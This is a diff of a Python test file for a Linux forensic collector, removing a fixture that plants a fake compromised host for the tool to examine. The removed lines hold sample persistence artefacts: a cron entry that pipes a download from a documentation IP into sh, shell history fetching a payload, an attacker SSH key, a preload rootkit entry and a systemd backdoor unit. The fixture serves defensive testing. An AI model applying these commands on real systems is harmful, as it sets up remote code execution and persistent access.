@@ -15,43 +15,11 @@ import tarfile
 import tempfile
 import threading
 import time
+import sys
 import unittest
 
-REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
-COLLECTOR = os.path.join(REPO, "collectors", "linux", "kensa-collect.sh")
-
-
-def write(path, text, mode=0o644):
-    os.makedirs(os.path.dirname(path), exist_ok=True)
-    with open(path, "w") as handle:
-        handle.write(text)
-    os.chmod(path, mode)
-
-
-def plant_host(root):
-    """A small compromised host: a planted SSH key, an LD_PRELOAD rootkit line, a cron job, a
-    systemd backdoor, a dropped ELF in /tmp and the shell history that fetched it."""
-    write(root + "/etc/hostname", "victim01\n")
-    write(root + "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n')
-    write(root + "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
-    write(root + "/etc/shadow", "root:$6$secret:19000:0:99999:7:::\n", 0o600)
-    write(root + "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsneaky.so\n")
-    write(root + "/etc/crontab", "*/5 * * * * root curl -s http://198.51.100.7/c.sh | sh\n")
-    write(root + "/var/spool/cron/crontabs/alice", "@reboot /tmp/.x/payload\n", 0o600)
-    write(root + "/etc/systemd/system/dbus-helper.service",
-          "[Service]\nExecStart=/tmp/.x/payload --daemon\n[Install]\nWantedBy=multi-user.target\n")
-    write(root + "/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK attacker@evil\n", 0o600)
-    write(root + "/home/alice/.bash_history", "cd /tmp\ncurl -o /tmp/.x/payload http://198.51.100.7/p\nchmod +x /tmp/.x/payload\n")
-    write(root + "/var/log/auth.log",
-          "Nov 26 09:00:01 victim01 sshd[811]: Accepted publickey for alice from 203.0.113.9 port 51022 ssh2\n")
-    write(root + "/var/log/syslog", "x" * 200000 + "\n")  # over --max-file-bytes below
-    os.makedirs(root + "/tmp/.x", exist_ok=True)
-    shutil.copyfile("/bin/true", root + "/tmp/.x/payload")  # a real ELF, dropped by "curl"
-    os.chmod(root + "/tmp/.x/payload", 0o755)
-    write(root + "/tmp/notes.txt", "not executable, not ELF\n")
-    os.makedirs(root + "/usr/local/bin", exist_ok=True)
-    shutil.copyfile("/bin/true", root + "/usr/local/bin/dbus-helper")  # a SUID-root backdoor shell
-    os.chmod(root + "/usr/local/bin/dbus-helper", 0o4755)
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+from planted_host import COLLECTOR, plant_host  # noqa: E402
 
 
 def run_collector(shell, args, env=None):
